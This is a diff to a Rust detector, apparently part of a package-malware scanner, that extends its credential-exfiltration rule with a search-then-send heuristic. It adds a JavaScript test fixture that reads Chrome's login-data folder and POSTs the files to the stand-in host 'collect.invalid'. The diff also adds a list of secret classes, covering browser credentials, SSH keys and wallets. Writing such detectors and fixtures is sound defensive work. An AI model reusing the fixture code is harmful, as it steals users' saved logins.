@@ -1,9 +1,11 @@
 //! A secret leaves over the network.
 
 use super::provenance::Whose;
-use super::{Context, Declaration, Example, Finding, judge, runs_on_install};
+use super::{Context, Declaration, Example, Finding, host, judge, runs_on_install};
+use crate::api::targets;
+use crate::behaviours::Behaviour;
 use crate::flow::Flow;
-use crate::model::Severity;
+use crate::model::{Confidence, Severity};
 
 pub(super) static FINDING: Declaration = Declaration {
     id: "credential-exfiltration",
@@ -70,6 +72,26 @@ https.request({ hostname: "collect.invalid", method: "POST" }).end(fs.readFileSy
             ],
         },
         Example {
+            name: "it looks for a browser's logins and sends whatever it finds",
+            severity: Some(Severity::Critical),
+            files: &[
+                (
+                    "package.json",
+                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
+                ),
+                (
+                    "i.js",
+                    r#"const fs = require("fs"), os = require("os"), https = require("https");
+const root = os.homedir() + "/.config/google-chrome/Default";
+if (fs.existsSync(root + "/Login Data")) {
+  for (const name of fs.readdirSync(root)) {
+    https.request({ hostname: "collect.invalid", method: "POST" }).end(fs.readFileSync([root, name].sort().pop()));
+  }
+}"#,
+                ),
+            ],
+        },
+        Example {
             name: "a host that begins with the vendor's name is not the vendor",
             severity: Some(Severity::Critical),
             files: &[
@@ -103,6 +125,7 @@ exports.read = () => fs.readFileSync(os.homedir() + "/.npmrc", "utf8");"#,
 };
 
 fn detect(context: &Context<'_>, found: &mut Vec<Finding>) {
+    by_search(context, found);
     for flow in context.flows {
         if flow.id != "credential-to-network" {
             continue;
@@ -136,12 +159,60 @@ fn detect(context: &Context<'_>, found: &mut Vec<Finding>) {
     }
 }
 
+/// Files whose names are not known are sent, and the package has looked for secrets: those of
+/// browsers, wallets and keys, which lie in folders that code goes through.
+fn by_search(context: &Context<'_>, found: &mut Vec<Finding>) {
+    const CLASSES: [&str; 4] = [
+        "credential.browser",
+        "credential.ssh",
+        "personal.",
+        "wallet.",
+    ];
+    let looks = |one: &&Behaviour| {
+        let secret = one.target.as_deref().and_then(targets::secret_path);
+        matches!(one.what.id, "fs.metadata" | "fs.list" | "fs.read")
+            && secret.is_some_and(|secret| CLASSES.iter().any(|id| secret.id.starts_with(id)))
+    };
+    let Some(looked) = context.behaviours.iter().find(looks) else {
+        return;
+    };
+    let path = looked.target.as_deref().unwrap_or("secrets");
+    let mut told: Vec<Option<String>> = Vec::new();
+    for flow in context.flows {
+        let is_unknown = flow
+            .source
+            .target
+            .as_deref()
+            .is_none_or(|path| path.starts_with("<?>"));
+        if flow.id != "file-to-network" || !is_unknown {
+            continue;
+        }
+        let url = flow.sink.target.as_deref();
+        let at = url.and_then(host::host);
+        if told.contains(&at) {
+            continue;
+        }
+        told.push(at);
+        let host = url.unwrap_or("a host that is not resolved");
+        let message = format!("files are sent to {host}, and it has looked for {path}");
+        let mut finding = Finding::of_flow(&FINDING, flow, message);
+        finding.evidence.extend(looked.sites.first().copied());
+        finding.confidence = Confidence::Medium;
+        let own = own_severity(context, flow, host);
+        judge::by_destination(context, flow, &flow.sink, own, &mut finding);
+        judge::by_reach(context, flow, &mut finding);
+        found.push(finding);
+    }
+}
+
 /// What remains where a secret goes to the package's own host, or to a registry. Whoever writes
 /// the package writes its home page, so that clears only keys that are named after a service, not
 /// those to the machine, its clouds and its forges.
 fn own_severity(context: &Context<'_>, flow: &Flow, host: &str) -> Severity {
     let is_registry = context.home.whose(host) == Some(Whose::Registry);
     match flow.source.id {
+        // Whoever installs a package has not asked it to speak for them.
+        "credential.npm" if is_registry && runs_on_install(flow.reach) => Severity::High,
         "credential.npm" if is_registry => Severity::Low,
         _ if is_registry => Severity::Critical,
         "credential.named" | "credential.service" => Severity::Low,
